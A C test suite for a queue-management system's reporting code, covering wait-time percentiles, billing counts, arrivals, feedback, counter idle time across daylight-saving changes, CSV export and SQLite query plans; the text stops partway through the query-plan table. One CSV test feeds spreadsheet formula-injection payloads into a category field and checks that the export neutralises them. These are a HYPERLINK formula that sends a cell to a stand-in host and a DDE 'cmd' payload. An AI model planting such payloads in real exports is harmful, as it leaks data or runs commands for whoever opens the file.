/* SPDX-License-Identifier: GPL-3.0-or-later */
/* Tests of firmware/report.c on rows written with SQLite directly: counts
 * per provider, month and channel, medians and p90 by nearest rank, the
 * month boundary, no-shows, the target share, the JSON form; and report_run:
 * billing with every outcome, categories, times of a single value and of
 * thousands (against a sort), an empty range, arrivals by local hour and
 * weekday, feedback with and without a ticket, counters' idle time across
 * closes, nights, a change of the clocks and now; periods by day, week and
 * month; CSV; and the query plans: every query of a report over a big table
 * reads its covering index (a dropped index or a query that no longer fits
 * its index fails here). */
#include <errno.h>
#include <glib.h>
#include <glib/gstdio.h>
#include <stdarg.h>
#include <string.h>

#include "report.h"

#define OCT31 20757 /* 2026-10-31 */
#define NOV01 20758 /* 2026-11-01, a Sunday */
#define NOV02 20759 /* 2026-11-02, a Monday (ISO week 45) */
#define MAR28 20540 /* 2026-03-28: the night after, clocks go from 03:00 EET to 04:00 EEST */
/* Unix time of local Helsinki time on a day: EET (UTC+2) in November. */
#define EET(day, h, m) ((int64_t)(day)*86400 + ((h)-2) * 3600 + (m)*60)

struct fixture {
	char *dir, *path;
	struct store *s;
};

static void setup(struct fixture *f, gconstpointer data)
{
	g_autoptr(GError) error = NULL;

	f->dir = g_dir_make_tmp("vuoro-test-report-XXXXXX", &error);
	f->path = g_build_filename(f->dir, "r.db", NULL);
	f->s = store_open(f->path, NULL, &error);
	g_assert_no_error(error);
}

static void teardown(struct fixture *f, gconstpointer data)
{
	static const char *const suffix[] = {"", "-wal", "-shm"};

	store_free(f->s);
	for (int i = 0; i < 3; i++) {
		g_autofree char *p = g_strconcat(f->path, suffix[i], NULL);

		g_unlink(p);
	}
	g_rmdir(f->dir);
	g_free(f->dir);
	g_free(f->path);
}

/* wait < 0: never called; service < 0: never started. */
static void visit(struct fixture *f, const char *provider, int day, const char *channel,
		  const char *outcome, int wait, int service)
{
	int64_t issued = (int64_t)day * 86400 + 8 * 3600;
	int64_t called = wait < 0 ? 0 : issued + wait;
	int64_t started = service < 0 ? 0 : called;
	int64_t ended = (called ? called : issued) + (service < 0 ? 0 : service);
	g_autofree char *sql = g_strdup_printf(
	    "INSERT INTO visits (ticket, day, service, provider, code, channel, outcome, lang, "
	    "issued_at, called_at, started_at, ended_at) VALUES (1, %d, 's', '%s', 'A001', '%s', "
	    "'%s', 'fi', %" G_GINT64_FORMAT ", %" G_GINT64_FORMAT ", %" G_GINT64_FORMAT
	    ", %" G_GINT64_FORMAT ")",
	    day, provider, channel, outcome, issued, called, started, ended);

	g_assert_cmpint(sqlite3_exec(store_db(f->s), sql, NULL, NULL, NULL), ==, SQLITE_OK);
}

static const struct report_row *row(GPtrArray *rows, const char *provider, const char *month)
{
	for (guint i = 0; i < rows->len; i++) {
		const struct report_row *r = g_ptr_array_index(rows, i);

		if (strcmp(r->provider, provider) == 0 && strcmp(r->month, month) == 0)
			return r;
	}
	return NULL;
}

static void test_counts_and_percentiles(struct fixture *f, gconstpointer data)
{
	g_autoptr(GError) error = NULL;
	g_autoptr(GPtrArray) rows = NULL;
	const struct report_row *r;
	static const int waits[] = {60, 600, 120, 300, 900}; /* sorted: 60 120 300 600 900 */

	for (int i = 0; i < 5; i++)
		visit(f, "vero", NOV01 + i, i < 3 ? "in_person" : "remote_video", "resolved",
		      waits[i], 100 * (i + 1));
	visit(f, "vero", NOV01, "in_person", "no_show", 1200, -1);
	visit(f, "vero", NOV01, "in_person", "cancelled", -1, -1);
	visit(f, "kela", OCT31, "e_service", "referred", 30, 400);
	visit(f, "kela", NOV01, "paper_form", "transferred", 40, 50);
	visit(f, "kela", NOV01, "paper_form", "follow_up", 50, 70);
	g_assert_cmpint(report_monthly(f->s, OCT31, NOV01 + 30, 300, &rows, &error), ==, 0);
	g_assert_cmpuint(rows->len, ==, 3);
	/* Sorted by month, then provider. */
	g_assert_cmpstr(((struct report_row *)rows->pdata[0])->month, ==, "2026-10");
	g_assert_cmpstr(((struct report_row *)rows->pdata[1])->provider, ==, "kela");
	r = row(rows, "vero", "2026-11");
	g_assert_cmpuint(r->visits, ==, 5);
	g_assert_cmpuint(r->by_channel[QUEUE_CHANNEL_IN_PERSON], ==, 3);
	g_assert_cmpuint(r->by_channel[QUEUE_CHANNEL_REMOTE_VIDEO], ==, 2);
	g_assert_cmpuint(r->no_shows, ==, 1);
	g_assert_cmpuint(r->cancelled, ==, 1);
	/* Waits 60 120 300 600 900 1200 (the no-show was called too). */
	g_assert_cmpuint(r->waited, ==, 6);
	g_assert_cmpint(r->wait_median_s, ==, 300);
	g_assert_cmpint(r->wait_p90_s, ==, 1200);
	g_assert_cmpuint(r->within_target, ==, 3);
	/* Service 100..500: odd count, median 300; p90 = 5th of 5. */
	g_assert_cmpint(r->service_median_s, ==, 300);
	g_assert_cmpint(r->service_p90_s, ==, 500);
	r = row(rows, "kela", "2026-11");
	g_assert_cmpuint(r->visits, ==, 2);
	g_assert_cmpint(r->service_median_s, ==, 50); /* even count: lower middle */
	r = row(rows, "kela", "2026-10");
	g_assert_cmpuint(r->visits, ==, 1);
	g_assert_cmpint(r->wait_median_s, ==, 30);
	g_assert_cmpint(r->wait_p90_s, ==, 30);
	{
		g_autoptr(JsonNode) json = report_rows_to_json(rows);
		g_autofree char *text = json_to_string(json, FALSE);

		g_assert_nonnull(strstr(text, "\"within_target_pct\":50.0"));
		g_assert_nonnull(strstr(text, "\"remote_video\":2"));
		g_assert_nonnull(strstr(text, "\"month\":\"2026-10\""));
	}
}

static void test_empty(struct fixture *f, gconstpointer data)
{
	g_autoptr(GError) error = NULL;
	g_autoptr(GPtrArray) rows = NULL;

	visit(f, "vero", NOV01, "in_person", "no_show", -1, -1);
	g_assert_cmpint(report_monthly(f->s, OCT31, NOV01, 300, &rows, &error), ==, 0);
	g_assert_cmpuint(rows->len, ==, 0);
	g_clear_pointer(&rows, g_ptr_array_unref);
	g_assert_cmpint(report_monthly(f->s, NOV01, NOV01 + 1, 300, &rows, &error), ==, 0);
	g_assert_cmpuint(rows->len, ==, 1);
	g_assert_cmpint(((struct report_row *)rows->pdata[0])->wait_median_s, ==, -1);
	g_assert_cmpuint(((struct report_row *)rows->pdata[0])->visits, ==, 0);
}

static void sql(struct fixture *f, const char *fmt, ...) G_GNUC_PRINTF(2, 3);
static void sql(struct fixture *f, const char *fmt, ...)
{
	g_autofree char *text = NULL;
	char *err = NULL;
	va_list ap;

	va_start(ap, fmt);
	text = g_strdup_vprintf(fmt, ap);
	va_end(ap);
	if (sqlite3_exec(store_db(f->s), text, NULL, NULL, &err) != SQLITE_OK)
		g_error("%s: %s", text, err);
}

/* A visit with every field the new reports read; times are unix seconds,
 * 0 = never. */
static void visit_at(struct fixture *f, const char *provider, int day, const char *outcome,
		     int counter, int64_t issued, int64_t called, int64_t started, int64_t ended,
		     const char *category)
{
	sql(f,
	    "INSERT INTO visits (ticket, day, service, provider, code, counter, channel, outcome, "
	    "lang, issued_at, called_at, started_at, ended_at, category) VALUES (1, %d, 's', '%s', "
	    "'A001', %d, 'in_person', '%s', 'fi', %" G_GINT64_FORMAT ", %" G_GINT64_FORMAT
	    ", %" G_GINT64_FORMAT ", %" G_GINT64_FORMAT ", %s%s%s)",
	    day, provider, counter, outcome, issued, called, started, ended, category ? "'" : "",
	    category ? category : "NULL", category ? "'" : "");
}

static void audit(struct fixture *f, int64_t at, const char *command, int counter)
{
	sql(f,
	    "INSERT INTO audit (at, user, command, detail) VALUES (%" G_GINT64_FORMAT
	    ", 'anna', '%s', '{\"counter\":%d}')",
	    at, command, counter);
}

static JsonNode *run(struct fixture *f, int32_t from, int32_t to, enum report_period period,
		     int64_t now)
{
	g_autoptr(GTimeZone) tz = g_time_zone_new_identifier("Europe/Helsinki");
	struct report_query q = {
	    .from_day = from,
	    .to_day = to,
	    .period = period,
	    .target_wait_s = 600,
	    .tz = tz,
	    .reset_min = 180,
	    .now = now,
	};
	g_autoptr(GError) error = NULL;
	g_autoptr(Report) r = NULL;
	g_autoptr(JsonBuilder) b = json_builder_new();

	g_assert_cmpint(report_run(f->s, &q, &r, &error), ==, 0);
	g_assert_no_error(error);
	json_builder_begin_object(b);
	report_add_json(r, b);
	json_builder_end_object(b);
	return json_builder_get_root(b);
}

/* The row of @kind whose period is @period and whose @key is @value. */
static JsonObject *find(JsonNode *root, const char *kind, const char *period, const char *key,
			const char *value)
{
	JsonArray *a = json_object_get_array_member(json_node_get_object(root), kind);

	for (guint i = 0; i < json_array_get_length(a); i++) {
		JsonObject *o = json_array_get_object_element(a, i);
		JsonNode *k = json_object_get_member(o, key);
		g_autofree char *text =
		    JSON_NODE_HOLDS_VALUE(k) && json_node_get_value_type(k) == G_TYPE_INT64
			? g_strdup_printf("%" G_GINT64_FORMAT, json_node_get_int(k))
			: g_strdup(json_node_get_string(k));

		if (strcmp(json_object_get_string_member(o, "period"), period) == 0 &&
		    g_strcmp0(text, value) == 0)
			return o;
	}
	return NULL;
}

static gint64 num(JsonObject *o, const char *name)
{
	g_assert_nonnull(o);
	return json_node_is_null(json_object_get_member(o, name))
		   ? -1
		   : json_object_get_int_member(o, name);
}

static gint64 elem(JsonObject *o, const char *name, guint i)
{
	return json_array_get_int_element(json_object_get_array_member(o, name), i);
}

static void test_billing_categories(struct fixture *f, gconstpointer data)
{
	g_autoptr(JsonNode) root = NULL;
	JsonObject *o;
	int64_t t = EET(NOV02, 9, 0);

	sql(f, "INSERT INTO providers (code) VALUES ('kela'), ('te')");
	visit_at(f, "kela", NOV02, "resolved", 1, t, t + 60, t + 90, t + 390, "housing");
	visit_at(f, "kela", NOV02, "referred", 1, t, t + 120, t + 130, t + 430, NULL);
	visit_at(f, "kela", NOV02, "transferred", 1, t, t + 180, t + 190, t + 490, "housing");
	visit_at(f, "kela", NOV02, "interrupted", 4, t, t + 200, 0, t + 260, "housing");
	visit_at(f, "kela", NOV02, "no_show", 1, t, t + 240, 0, t + 300, NULL);
	visit_at(f, "kela", NOV02, "cancelled", 0, t, 0, 0, t + 500, NULL);
	visit_at(f, "kela", NOV02, "voided", 0, t, 0, 0, t + 5, NULL);
	visit_at(f, "kela", NOV02, "reset", 0, t, 0, 0, EET(NOV02 + 1, 3, 0), NULL);
	visit_at(f, "kela", NOV02 + 1, "resolved", 2, t, t + 86400, t + 86400, t + 86460, "other");
	root = run(f, NOV02, NOV02 + 2, REPORT_PERIOD_DAY, 0);
	o = find(root, "billing", "2026-11-02", "provider", "kela");
	g_assert_cmpint(num(o, "events"), ==, 3);
	g_assert_cmpint(num(json_object_get_object_member(o, "channels"), "in_person"), ==, 3);
	g_assert_cmpint(num(o, "no_shows"), ==, 1);
	g_assert_cmpint(num(o, "cancelled"), ==, 1);
	g_assert_cmpint(num(o, "voided"), ==, 1);
	g_assert_cmpint(num(o, "reset"), ==, 1);
	g_assert_cmpint(num(o, "interrupted"), ==, 1);
	/* A provider without visits gets its zeros; the site and the total sum. */
	g_assert_cmpint(num(find(root, "billing", "2026-11-02", "provider", "te"), "events"), ==,
			0);
	g_assert_cmpint(num(find(root, "billing", "total", "provider", "kela"), "events"), ==, 4);
	g_assert_cmpint(num(find(root, "billing", "total", "provider", "*"), "events"), ==, 4);
	/* Categories of service events only; NULL is "uncategorised". */
	o = find(root, "categories", "2026-11-02", "category", "housing");
	g_assert_cmpint(num(o, "events"), ==, 2);
	o = find(root, "categories", "2026-11-02", "category", "uncategorised");
	g_assert_cmpint(num(o, "events"), ==, 1);
	g_assert_null(find(root, "categories", "2026-11-02", "category", "other"));
	o = find(root, "categories", "total", "category", "other");
	g_assert_cmpint(num(o, "events"), ==, 1);
	/* Waits of every call (the no-show and the interrupted one too);
	 * service times of started service events. */
	o = find(root, "times", "2026-11-02", "provider", "kela");
	g_assert_cmpint(num(o, "waited"), ==, 5); /* 60 120 180 200 240 */
	g_assert_cmpint(num(o, "wait_median_s"), ==, 180);
	g_assert_cmpint(num(o, "wait_p90_s"), ==, 240);
	g_assert_cmpint(num(o, "served"), ==, 3); /* 300 300 300 */
	g_assert_cmpint(num(o, "service_median_s"), ==, 300);
	g_assert_cmpint(num(o, "no_shows"), ==, 1);
}

static void test_single_and_empty(struct fixture *f, gconstpointer data)
{
	g_autoptr(JsonNode) root = NULL;
	g_autoptr(JsonNode) empty = NULL;
	JsonObject *o;
	int64_t t = EET(NOV02, 9, 0);

	visit_at(f, "vero", NOV02, "resolved", 1, t, t + 700, t + 710, t + 1000, NULL);
	root = run(f, NOV02, NOV02 + 1, REPORT_PERIOD_MONTH, 0);
	/* One value: it is the median and the p90. */
	o = find(root, "times", "2026-11", "provider", "vero");
	g_assert_cmpint(num(o, "wait_median_s"), ==, 700);
	g_assert_cmpint(num(o, "wait_p90_s"), ==, 700);
	g_assert_cmpint(num(o, "service_median_s"), ==, 290);
	g_assert_cmpint(num(o, "service_p90_s"), ==, 290);
	g_assert_cmpint(num(o, "within_target"), ==, 0); /* 700 s > 600 s */
	g_assert_cmpfloat(json_object_get_double_member(o, "within_target_pct"), ==, 0.0);
	/* The period is clipped to the range. */
	o = json_array_get_object_element(
	    json_object_get_array_member(json_node_get_object(root), "periods"), 0);
	g_assert_cmpstr(json_object_get_string_member(o, "from"), ==, "2026-11-02");
	g_assert_cmpstr(json_object_get_string_member(o, "to"), ==, "2026-11-03");
	/* A range without rows: no periods, a total of zeros and nulls. */
	empty = run(f, NOV02 + 1, NOV02 + 1, REPORT_PERIOD_MONTH, 0);
	g_assert_cmpuint(json_array_get_length(
			     json_object_get_array_member(json_node_get_object(empty), "periods")),
			 ==, 0);
	o = find(empty, "times", "total", "provider", "*");
	g_assert_cmpint(num(o, "waited"), ==, 0);
	g_assert_cmpint(num(o, "wait_median_s"), ==, -1);
	g_assert_true(json_node_is_null(json_object_get_member(o, "within_target_pct")));
	o = find(empty, "feedback", "total", "provider", "*");
	g_assert_cmpint(num(o, "count"), ==, 0);
	g_assert_true(json_node_is_null(json_object_get_member(o, "mean")));
	g_assert_nonnull(find(empty, "idle", "total", "counter", "0"));
	/* A day with nothing in a range that has something. */
	g_clear_pointer(&root, json_node_unref);
	root = run(f, NOV02 - 1, NOV02 + 1, REPORT_PERIOD_DAY, 0);
	o = find(root, "billing", "2026-11-01", "provider", "*");
	g_assert_cmpint(num(o, "events"), ==, 0);
	g_assert_cmpint(num(find(root, "times", "2026-11-01", "provider", "*"), "wait_p90_s"), ==,
			-1);
}

static int cmp_int(gconstpointer a, gconstpointer b)
{
	int x = *(const int *)a, y = *(const int *)b;

	return (x > y) - (x < y);
}

/* Thousands of waits (the bucketed pick) against a sort, per provider, for
 * the site and for the month. */
static void test_many_percentiles(struct fixture *f, gconstpointer data)
{
	static const char *const providers[] = {"a", "b"};
	g_autoptr(GRand) rand = g_rand_new_with_seed(6);
	g_autoptr(GArray) all = g_array_new(FALSE, FALSE, sizeof(int));
	g_autoptr(GArray) of_a = g_array_new(FALSE, FALSE, sizeof(int));
	g_autoptr(JsonNode) root = NULL;
	JsonObject *o;

	sql(f, "BEGIN");
	for (int i = 0; i < 7000; i++) {
		int p = i % 2, day = NOV02 + i % 3;
		/* Ties, a long tail and a few negative waits (a clock set back). */
		int wait = i % 97 == 0 ? -g_rand_int_range(rand, 1, 50)
				       : (g_rand_int_range(rand, 0, 10) < 9
					      ? 30 * g_rand_int_range(rand, 0, 40)
					      : g_rand_int_range(rand, 0, 40000));
		int64_t t = EET(day, 9, 0);

		visit_at(f, providers[p], day, "resolved", 1, t, t + wait, t + wait, t + wait + 60,
			 NULL);
		g_array_append_val(all, wait);
		if (p == 0)
			g_array_append_val(of_a, wait);
	}
	sql(f, "COMMIT");
	g_array_sort(all, cmp_int);
	g_array_sort(of_a, cmp_int);
	root = run(f, NOV02, NOV02 + 3, REPORT_PERIOD_MONTH, 0);
	o = find(root, "times", "2026-11", "provider", "*");
	g_assert_cmpint(num(o, "waited"), ==, 7000);
	g_assert_cmpint(num(o, "wait_median_s"), ==, g_array_index(all, int, 3500 - 1));
	g_assert_cmpint(num(o, "wait_p90_s"), ==, g_array_index(all, int, 6300 - 1));
	o = find(root, "times", "total", "provider", "a");
	g_assert_cmpint(num(o, "wait_median_s"), ==, g_array_index(of_a, int, 1750 - 1));
	g_assert_cmpint(num(o, "wait_p90_s"), ==, g_array_index(of_a, int, 3150 - 1));
}

static void test_arrivals(struct fixture *f, gconstpointer data)
{
	g_autoptr(JsonNode) root = NULL;
	JsonObject *o;

	sql(f, "INSERT INTO providers (code) VALUES ('kela')");
	sql(f, "INSERT INTO services (code, provider, prefix, kind) VALUES ('k', 'kela', 'K', "
	       "'counter')");
	/* Monday 08:30 EET; Sunday 23:30 EET (still the Sunday's service day:
	 * Monday 01:00 is before the reset too); Wednesday 1 July 09:15 EEST;
	 * a voided one; one of a service nobody knows. */
	sql(f,
	    "INSERT INTO tickets (day, service, origin, number, code, ref, state, lang, issued_at, "
	    "queued_at) VALUES "
	    "(%d, 'k', 'k', 1, 'K001', 'r1', 'done', 'fi', %" G_GINT64_FORMAT ", 0),"
	    "(%d, 'k', 'k', 2, 'K002', 'r2', 'done', 'fi', %" G_GINT64_FORMAT ", 0),"
	    "(%d, 'k', 'k', 3, 'K003', 'r3', 'voided', 'fi', %" G_GINT64_FORMAT ", 0),"
	    "(%d, 'k', 'k', 1, 'K001', 'r4', 'done', 'fi', %" G_GINT64_FORMAT ", 0),"
	    "(%d, 'x', 'x', 1, 'X001', 'r5', 'done', 'fi', %" G_GINT64_FORMAT ", 0)",
	    NOV02, EET(NOV02, 8, 30), NOV01, EET(NOV01, 23, 30), NOV02, EET(NOV02, 9, 0), 20635,
	    (int64_t)20635 * 86400 + 6 * 3600 + 15 * 60, NOV02, EET(NOV02, 10, 0));
	root = run(f, 20635, NOV02 + 1, REPORT_PERIOD_WEEK, 0);
	o = find(root, "arrivals", "2026-W45", "provider", "kela");
	g_assert_cmpint(num(o, "tickets"), ==, 1);
	g_assert_cmpint(elem(o, "hours", 8), ==, 1);
	g_assert_cmpint(elem(o, "weekdays", 0), ==, 1);
	o = find(root, "arrivals", "2026-W45", "provider", "*");
	g_assert_cmpint(num(o, "tickets"), ==, 2); /* and the unknown service's */
	g_assert_cmpint(elem(o, "hours", 10), ==, 1);
	o = find(root, "arrivals", "2026-W44", "provider", "kela");
	g_assert_cmpint(elem(o, "hours", 23), ==, 1);
	g_assert_cmpint(elem(o, "weekdays", 6), ==, 1);
	o = find(root, "arrivals", "2026-W27", "provider", "kela");
	g_assert_cmpint(elem(o, "hours", 9), ==, 1); /* summer time */
	g_assert_cmpint(elem(o, "weekdays", 2), ==, 1);
	o = find(root, "arrivals", "total", "provider", "*");
	g_assert_cmpint(num(o, "tickets"), ==, 4);
	/* Weeks are ISO weeks, cut to the range. */
	o = json_array_get_object_element(
	    json_object_get_array_member(json_node_get_object(root), "periods"), 0);
	g_assert_cmpstr(json_object_get_string_member(o, "period"), ==, "2026-W27");
	g_assert_cmpstr(json_object_get_string_member(o, "from"), ==, "2026-07-01");
	g_assert_cmpstr(json_object_get_string_member(o, "to"), ==, "2026-07-06");
}

static void test_feedback(struct fixture *f, gconstpointer data)
{
	g_autoptr(JsonNode) root = NULL;
	JsonObject *o;

	sql(f,
	    "INSERT INTO feedback (ticket, day, service, provider, counter, rating, source, at) "
	    "VALUES (5, %d, 'tax', 'vero', 1, 4, 'button', 0), (6, %d, 'tax', 'vero', 1, 5, "
	    "'kiosk', 0), (0, %d, NULL, 'vero', 0, 1, 'button', 0), (0, %d, NULL, NULL, 0, 3, "
	    "'button', 0), (7, %d, 'tax', 'vero', 1, 0, 'button', 0)",
	    NOV02, NOV02, NOV02, NOV02, NOV02);
	root = run(f, NOV02, NOV02 + 1, REPORT_PERIOD_DAY, 0);
	/* Tied to a ticket: the provider's.  Not tied (ticket 0): the site's
	 * only, even when it names a provider.  A rating out of 1..5: nobody's. */
	o = find(root, "feedback", "2026-11-02", "provider", "vero");
	g_assert_cmpint(num(o, "count"), ==, 2);
	g_assert_cmpint(num(o, "sum"), ==, 9);
	g_assert_cmpfloat(json_object_get_double_member(o, "mean"), ==, 4.5);
	g_assert_cmpint(elem(o, "ratings", 3), ==, 1);
	g_assert_cmpint(elem(o, "ratings", 4), ==, 1);
	g_assert_cmpint(elem(o, "ratings", 0), ==, 0);
	o = find(root, "feedback", "2026-11-02", "provider", "*");
	g_assert_cmpint(num(o, "count"), ==, 4);
	g_assert_cmpint(num(o, "sum"), ==, 13);
	g_assert_cmpfloat(json_object_get_double_member(o, "mean"), ==, 3.25);
	g_assert_cmpint(elem(o, "ratings", 0), ==, 1);
	g_assert_cmpint(elem(o, "ratings", 2), ==, 1);
}

static void test_idle(struct fixture *f, gconstpointer data)
{
	g_autoptr(JsonNode) root = NULL;
	g_autoptr(JsonNode) spring = NULL;
	JsonObject *o;
	int64_t t = EET(NOV02, 9, 0);

	/* Counter 1: 08-12 and 13-17 with a lunch close between, an hour busy
	 * (no-show from the call counts), a close while closed and an open
	 * while open ignored. */
	audit(f, EET(NOV02, 7, 0), "close", 1);
	audit(f, EET(NOV02, 8, 0), "open", 1);
	audit(f, EET(NOV02, 8, 30), "open", 1);
	audit(f, EET(NOV02, 12, 0), "close", 1);
	audit(f, EET(NOV02, 13, 0), "open", 1);
	audit(f, EET(NOV02, 17, 0), "close", 1);
	visit_at(f, "kela", NOV02, "resolved", 1, t - 600, t, t + 60, t + 3000, NULL);
	visit_at(f, "kela", NOV02, "no_show", 1, t, t + 3000, 0, t + 3600, NULL);
	/* Counter 2: left open overnight, closed at 10 the next morning: the
	 * night counts until the reset (03:00) on its day, the rest on the next. */
	audit(f, EET(NOV02, 16, 0), "open", 2);
	audit(f, EET(NOV02 + 1, 10, 0), "close", 2);
	/* Counter 3: opened at 15 on the second day, still open at 18 (now). */
	audit(f, EET(NOV02 + 1, 15, 0), "open", 3);
	/* Counter 4: busy without ever being open: idle 0, not below. */
	visit_at(f, "kela", NOV02, "resolved", 4, t, t + 10, t + 20, t + 610, NULL);
	/* Counter 5: opened before the range, closed in it. */
	audit(f, EET(NOV02 - 3, 9, 0), "open", 5);
	audit(f, EET(NOV02, 4, 0), "close", 5);
	root = run(f, NOV02, NOV02 + 2, REPORT_PERIOD_DAY, EET(NOV02 + 1, 18, 0));
	o = find(root, "idle", "2026-11-02", "counter", "1");
	g_assert_cmpint(num(o, "open_s"), ==, 8 * 3600);
	g_assert_cmpint(num(o, "busy_s"), ==, 3600);
	g_assert_cmpint(num(o, "idle_s"), ==, 7 * 3600);
	g_assert_cmpfloat(json_object_get_double_member(o, "idle_pct"), ==, 87.5);
	o = find(root, "idle", "2026-11-02", "counter", "2");
	g_assert_cmpint(num(o, "open_s"), ==, 11 * 3600);
	o = find(root, "idle", "2026-11-03", "counter", "2");
	g_assert_cmpint(num(o, "open_s"), ==, 7 * 3600);
	o = find(root, "idle", "2026-11-03", "counter", "3");
	g_assert_cmpint(num(o, "open_s"), ==, 3 * 3600);
	o = find(root, "idle", "2026-11-02", "counter", "4");
	g_assert_cmpint(num(o, "open_s"), ==, 0);
	g_assert_cmpint(num(o, "busy_s"), ==, 600);
	g_assert_cmpint(num(o, "idle_s"), ==, 0);
	g_assert_true(json_node_is_null(json_object_get_member(o, "idle_pct")));
	o = find(root, "idle", "2026-11-02", "counter", "5"); /* 03:00 to 04:00 */
	g_assert_cmpint(num(o, "open_s"), ==, 3600);
	/* Counter 0: all of them; the total: both days. */
	o = find(root, "idle", "2026-11-02", "counter", "0");
	g_assert_cmpint(num(o, "open_s"), ==, (8 + 11 + 1) * 3600);
	g_assert_cmpint(num(o, "busy_s"), ==, 3600 + 600);
	g_assert_cmpint(num(o, "idle_s"), ==, (7 + 11 + 1) * 3600);
	o = find(root, "idle", "total", "counter", "0");
	g_assert_cmpint(num(o, "idle_s"), ==, (7 + 11 + 1 + 7 + 3) * 3600);

	/* The night the clocks go forward: 16:00 EET to the reset at 03:00
	 * local, which does not exist that night: 04:00 EEST = 01:00 UTC. */
	audit(f, (int64_t)MAR28 * 86400 + 14 * 3600, "open", 6);
	audit(f, (int64_t)(MAR28 + 1) * 86400 + 7 * 3600, "close", 6);
	spring = run(f, MAR28, MAR28 + 2, REPORT_PERIOD_DAY, EET(NOV02 + 1, 18, 0));
	o = find(spring, "idle", "2026-03-28", "counter", "6");
	g_assert_cmpint(num(o, "open_s"), ==, 11 * 3600);
	o = find(spring, "idle", "2026-03-29", "counter", "6");
	g_assert_cmpint(num(o, "open_s"), ==, 6 * 3600);
}

static void test_csv(struct fixture *f, gconstpointer data)
{
	g_autoptr(GTimeZone) tz = g_time_zone_new_identifier("Europe/Helsinki");
	struct report_query q = {
	    .from_day = NOV01,
	    .to_day = NOV02 + 1,
	    .period = REPORT_PERIOD_MONTH,
	    .target_wait_s = 600,
	    .tz = tz,
	    .reset_min = 180,
	    .kinds = REPORT_KINDS_ALL, /* booths and pilot too: not in the default */
	};
	g_autoptr(GError) error = NULL;
	g_autoptr(Report) r = NULL;
	int64_t t = EET(NOV02, 9, 0);

	visit_at(f, "kela", NOV02, "resolved", 1, t, t + 60, t + 70, t + 370, "a, \"b\"");
	g_assert_cmpint(report_run(f->s, &q, &r, &error), ==, 0);
	for (int k = 0; k < REPORT_N_KINDS; k++) {
		gsize len;
		g_autofree char *csv = report_to_csv(r, k, &len);
		g_auto(GStrv) lines = g_strsplit(csv, "\r\n", -1);

		g_assert_cmpuint(strlen(csv), ==, len);
		g_assert_true(g_str_has_prefix(lines[0], k == REPORT_KIND_IDLE ? "period,counter,"
							 : k == REPORT_KIND_BOOTHS
							     ? "period,booth,"
							     : "period,provider,"));
		g_assert_cmpint(report_kind_parse(report_kind_name(k)), ==, k);
	}
	{
		gsize len;
		g_autofree char *csv = report_to_csv(r, REPORT_KIND_CATEGORIES, &len);
		g_autofree char *times = report_to_csv(r, REPORT_KIND_TIMES, &len);

		g_assert_nonnull(strstr(csv, "2026-11,kela,\"a, \"\"b\"\"\",1\r\n"));
		g_assert_nonnull(strstr(times, "2026-11,kela,1,60,60,1,100.0,1,300,300,0\r\n"));
		g_assert_nonnull(strstr(times, "total,*,1,60,60,1,100.0,1,300,300,0\r\n"));
	}
	/* Categories are advisors' free text: one that a spreadsheet would run
	 * as a formula is neutralised, its count stays a number. */
	{
		static const struct {
			const char *typed, *cell;
		} formulas[] = {
		    {"=HYPERLINK(\"http://x.example/?\"&A1)",
		     "\"'=HYPERLINK(\"\"http://x.example/?\"\"&A1)\""},
		    {"+1+cmd|/C calc!A0", "\"'+1+cmd|/C calc!A0\""},
		    {"-2", "\"'-2\""},
		    {"@SUM(A1:A9)", "\"'@SUM(A1:A9)\""},
		    {"\tx", "\"'\tx\""},
		    {"\rx", "\"'\rx\""},
		    {"a-b=c", "a-b=c"},
		};
		gsize len;
		g_autofree char *csv = NULL;

		for (guint i = 0; i < G_N_ELEMENTS(formulas); i++)
			visit_at(f, "vero", NOV02, "resolved", 1, t, t + 60, t + 70, t + 370,
				 formulas[i].typed);
		g_clear_pointer(&r, report_free);
		g_assert_cmpint(report_run(f->s, &q, &r, &error), ==, 0);
		csv = report_to_csv(r, REPORT_KIND_CATEGORIES, &len);
		for (guint i = 0; i < G_N_ELEMENTS(formulas); i++) {
			g_autofree char *line =
			    g_strdup_printf("\r\n2026-11,vero,%s,1\r\n", formulas[i].cell);

			g_assert_nonnull(strstr(csv, line));
		}
	}
	/* The monthly rows: a provider is text, a missing median is the number
	 * -1, not text to neutralise. */
	{
		struct report_row row = {.provider = "=x",
					 .month = "2026-11",
					 .wait_median_s = -1,
					 .wait_p90_s = -1,
					 .service_median_s = 5,
					 .service_p90_s = -1};
		g_autoptr(GPtrArray) rows = g_ptr_array_new();
		gsize len;
		g_autofree char *csv = NULL;

		g_ptr_array_add(rows, &row);
		csv = report_rows_to_csv(rows, &len);
		g_assert_nonnull(
		    strstr(csv, "\r\n\"'=x\",2026-11,0,0,0,0,0,0,0,-1,-1,5,-1,0,0\r\n"));
	}
	g_assert_cmpint(report_period_parse("week"), ==, REPORT_PERIOD_WEEK);
	g_assert_cmpint(report_period_parse("year"), ==, -1);
	g_assert_cmpint(report_kind_parse("nope"), ==, -1);
	/* A reversed range is refused. */
	q.to_day = q.from_day - 1;
	g_clear_pointer(&r, report_free);
	g_assert_cmpint(report_run(f->s, &q, &r, &error), ==, -EINVAL);
	g_assert_nonnull(error);
}

/* The EXPLAIN QUERY PLAN of @sql, its lines' details joined by "\n". */
static char *query_plan(sqlite3 *db, const char *sql)
{
	g_autofree char *explain = g_strconcat("EXPLAIN QUERY PLAN ", sql, NULL);
	g_autoptr(GString) plan = g_string_new(NULL);
	sqlite3_stmt *st = NULL;

	if (sqlite3_prepare_v2(db, explain, -1, &st, NULL) != SQLITE_OK)
		return g_strdup_printf("(cannot prepare: %s)", sqlite3_errmsg(db));
	while (sqlite3_step(st) == SQLITE_ROW)
		g_string_append_printf(plan, "%s%s", plan->len ? "\n" : "",
				       (const char *)sqlite3_column_text(st, 3));
	sqlite3_finalize(st);
	return g_string_free(g_steal_pointer(&plan), FALSE);
}

/* What each query's plan must be: a search (or, for the audit's partial
 * index, a scan in id order) of its covering index, nothing else. */
static const char *const expected_plans[REPORT_N_SQL] = {
    [REPORT_SQL_VISITS] = "SEARCH visits USING COVERING INDEX visits_report (day>? AND day<?)",
    [REPORT_SQL_VISITS_ALL] = "SEARCH visits USING COVERING INDEX visits_report (day>? AND day<?)",
    [REPORT_SQL_TICKETS] = "SEARCH tickets USING COVERING INDEX tickets_arrivals (day>? AND day<?)",
    [REPORT_SQL_VOIDED] = "SEARCH tickets USING COVERING INDEX tickets_voided (day>? AND day<?)",
    [REPORT_SQL_FEEDBACK] =
	"SEARCH feedback USING COVERING INDEX feedback_report (day>? AND day<?)",
